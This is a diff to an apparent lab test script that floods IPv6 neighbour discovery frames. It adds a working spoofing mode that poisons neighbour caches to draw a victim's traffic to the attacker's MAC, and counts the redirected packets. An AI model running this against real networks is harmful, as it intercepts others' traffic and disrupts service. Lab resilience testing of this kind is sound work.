@@ -2,10 +2,11 @@
 """Frames of neighbour discovery that nobody should send: forged, malformed so that a parser may loop, and oversized.
 
 Run on a client as `python tests/lab/ndp_attacks.py DEVICE KIND SECONDS JSON`: sends all frames of a kind, again and
-again, for so long, and prints how many. JSON names who is there: {"node_mac", "node", "victim_mac", "victim",
-"own_mac", "prefix"}.
+again, for so long, and prints how many, and how many packets for the victim's address came to our MAC. JSON names who
+is there: {"node_mac", "node", "victim_mac", "victim", "own_mac", "prefix"}.
 """
 
+import contextlib
 import json
 import random
 import socket
@@ -16,6 +17,7 @@ from scapy.layers.inet6 import (
     ICMPv6ND_NA,
     ICMPv6ND_NS,
     ICMPv6ND_RA,
+    ICMPv6ND_RS,
     ICMPv6NDOptDstLLAddr,
     ICMPv6NDOptSrcLLAddr,
     IPv6,
@@ -30,6 +32,7 @@ from scapy.packet import Raw
 
 ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
 FRAME_BYTES = 1514
+ETH_P_IPV6 = 0x86DD
 PAUSE_S = 0.0005  # between two frames: the attacker is one client of a radio
 
 
@@ -145,20 +148,53 @@ def noise(world: dict) -> list:
     return frames
 
 
+def drawing(world: dict) -> list:
+    """Every message by which a kernel learns a neighbour, for the victim's address and the attacker's MAC."""
+    own, victim, node = world["own_mac"], world["victim"], world["node"]
+    start = to_node(world, own) / IPv6(src=victim, dst=node, hlim=255)
+    target, source = ICMPv6NDOptDstLLAddr(lladdr=own), ICMPv6NDOptSrcLLAddr(lladdr=own)
+    answers = [ICMPv6ND_NA(tgt=victim, R=0, S=asked, O=1) / target for asked in (0, 1)]
+    return [
+        Ether(src=own, dst=ALL_NODES_MAC) / IPv6(src=victim, dst=ALL_NODES, hlim=255) / answers[0],
+        *(start / each for each in answers),
+        start / ICMPv6ND_NS(tgt=node) / source,
+        start / ICMPv6ND_RS() / source,
+        start / IPv6ExtHdrDestOpt() / answers[0],
+    ]
+
+
 KINDS = {each.__name__: each for each in (forged, looping, oversized, many, noise)}
+
+OTHERS = {"drawing": drawing}  # which harm nobody but the victim
 
 
 def main(device: str, kind: str, seconds: str, words: str) -> int:
-    frames = [bytes(frame)[:FRAME_BYTES] for frame in KINDS[kind](json.loads(words))]
+    world = json.loads(words)
+    frames = [bytes(frame)[:FRAME_BYTES] for frame in (KINDS | OTHERS)[kind](world)]
     door = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     door.bind((device, 0))
-    end_s, count = time.monotonic() + float(seconds), 0
+    heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
+    heard.bind((device, ETH_P_IPV6))
+    heard.setblocking(False)
+    end_s, count, drawn = time.monotonic() + float(seconds), 0, 0
     while time.monotonic() < end_s:
         door.send(frames[count % len(frames)].ljust(60, b"\0"))
         count += 1
         time.sleep(PAUSE_S)
-    print(count)
+        drawn += count_drawn(heard, world)
+    print(count, drawn)
     return 0
+
+
+def count_drawn(heard: socket.socket, world: dict) -> int:
+    """How many packets for the victim have come to our MAC since the last time."""
+    own = bytes.fromhex(world["own_mac"].replace(":", ""))
+    victim, drawn = socket.inet_pton(socket.AF_INET6, world["victim"]), 0
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            frame = heard.recv(2048)
+            drawn += frame[:6] == own and frame[38:54] == victim
+    return drawn
 
 
 if __name__ == "__main__":
